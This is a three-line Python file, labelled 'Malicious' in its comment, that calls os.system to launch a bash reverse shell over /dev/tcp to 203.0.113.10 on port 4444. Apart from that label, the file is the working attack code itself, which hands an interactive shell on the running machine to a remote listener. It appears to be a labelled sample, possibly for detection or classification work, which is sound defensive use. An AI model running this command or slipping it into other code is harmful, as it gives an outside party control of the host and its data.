# Malicious: launches a bash /dev/tcp reverse shell from Python through os.system.
import os

os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'")
